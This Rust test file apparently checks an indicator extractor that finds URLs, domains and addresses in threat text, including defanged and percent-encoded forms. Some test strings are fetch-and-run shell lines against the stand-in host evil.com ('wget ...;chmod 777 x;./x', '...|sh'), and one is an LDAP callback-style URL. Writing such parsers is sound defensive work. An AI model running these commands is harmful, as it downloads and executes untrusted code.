//! URLs: where they end, and what is in them.

use model::ObservableKind::Url;

use super::{all, only};

#[test]
fn a_url_is_found_with_all_its_parts() {
    for url in [
        "http://evil.com",
        "https://user:pass@evil.com:8443/a/b;c=1/d?e=f&g=%20#h",
        "ftp://192.0.2.1/pub",
        "http://[2001:db8::1]:8080/x",
        "ldap://192.0.2.1:1389/Run",
        "http://localhost/x",
        "HTTP://EVIL.COM/X",
        "http://evil.com./x",
        "http://evil.com/wiki/Foo_(bar)",
        "http://evil.com/?a[0]=1",
        "http://evil.com/?a=1&amp;b;c=2",
        "http://пример.рф/путь",
        "hxxp://evil.com/x",
        "hXXps://evil[.]com/x",
        "hxxps[:]//evil[.]com/x",
        "hxxps[://]evil(dot)com/x",
        "hxxp://evil[.]com[:]8080/x",
        "h**ps://evil[.]com/x",
        "meow://evil[.]com/x",
        "fxp://evil.com/x",
        "http%3A%2F%2Fevil.com%2Fx%3Fa%3D1",
        "http%253A%252F%252Fevil.com%252Fx%2520y",
        r"http:\/\/evil.com\/x?a=1\u0026b=2",
    ] {
        assert_eq!(only(Url, url), [url]);
        assert_eq!(only(Url, &format!("see {url} there")), [url]);
    }
}

#[test]
fn a_url_ends_where_the_text_around_it_goes_on() {
    for text in [
        "{}.",
        "{}, and",
        "({})",
        "(see {}).",
        "[x]({}), y",
        "\"{}\"",
        "'{}'",
        "x('{}').y",
        "<{}>",
        "`{}`",
        "{}|sh",
        "wget {};chmod 777 x;./x",
        "wget {};./x",
        "wget {}&&sh x",
        "a,{},b",
        "{},http://other.org/y",
        "{}&quot;x",
        r"{}\nnext",
        r#"{}\"x"#,
        "“{}”",
        "{}…",
        "访问{}查看",
        "**{}**",
        r"u=\n{}",
        r"x\u003d{}",
    ] {
        assert_eq!(only(Url, &text.replace("{}", "http://evil.com/x")).first(), Some(&"http://evil.com/x"), "{text}");
    }
}

#[test]
fn what_only_looks_like_a_url_is_none() {
    for text in [
        "http://",
        "http:///x",
        "http://+:80/",
        "http:/evil",
        "xyz://evil.com",
        "news://evil",
        "ldap://CN=Domain",
        "://",
    ] {
        assert_eq!(only(Url, text), [""; 0], "{text}");
    }
}

#[test]
fn the_host_is_found_too() {
    assert_eq!(all("http://evil.com/x"), ["url http://evil.com/x", "domain evil.com"]);
    assert_eq!(all("http://google.com@192.0.2.1/"), ["url http://google.com@192.0.2.1/", "ipv4 192.0.2.1"]);
    assert_eq!(all("http://[2001:db8::1]/"), ["url http://[2001:db8::1]/", "ipv6 2001:db8::1"]);
    assert_eq!(
        all("http://[::ffff:192.0.2.1]"),
        ["url http://[::ffff:192.0.2.1]", "ipv6 ::ffff:192.0.2.1", "ipv4 192.0.2.1"]
    );
    assert_eq!(all("http://server/x"), ["url http://server/x"]);
}

#[test]
fn urls_in_a_url_are_found_without_what_follows_them() {
    assert_eq!(
        all("http://a.com/?u=http://b.org/y&v=1"),
        ["url http://a.com/?u=http://b.org/y&v=1", "domain a.com", "url http://b.org/y", "domain b.org"]
    );
    assert_eq!(
        all("http://a.com/http://b.org/?x=1&y=2"),
        ["url http://a.com/http://b.org/?x=1&y=2", "domain a.com", "url http://b.org/?x=1&y=2", "domain b.org"]
    );
    assert_eq!(
        all("http://a.com/?u=http%3A%2F%2Fb.org%2F%3Fw%3Dhttp%253A%252F%252Fc.net&v=1"),
        [
            "url http://a.com/?u=http%3A%2F%2Fb.org%2F%3Fw%3Dhttp%253A%252F%252Fc.net&v=1",
            "domain a.com",
            "url http%3A%2F%2Fb.org%2F%3Fw%3Dhttp%253A%252F%252Fc.net",
            "domain b.org",
            "url http%253A%252F%252Fc.net",
            "domain c.net"
        ]
    );
}

#[test]
fn names_and_addresses_in_a_url_are_found_but_no_paths() {
    assert_eq!(
        all("http://a.com/etc/passwd?h=b.org&ip=192.0.2.1&m=x%40c.net&f=run.sh"),
        [
            "url http://a.com/etc/passwd?h=b.org&ip=192.0.2.1&m=x%40c.net&f=run.sh",
            "domain a.com",
            "domain b.org",
            "ipv4 192.0.2.1",
            "email x%40c.net",
            "domain c.net"
        ]
    );
}

#[test]
fn a_url_too_long_is_passed_over_but_not_what_is_in_it() {
    let text = format!("http://a.com/{}?u=b.org", "x".repeat(10_000));
    assert_eq!(all(&text), ["domain a.com", "domain b.org"]);
}
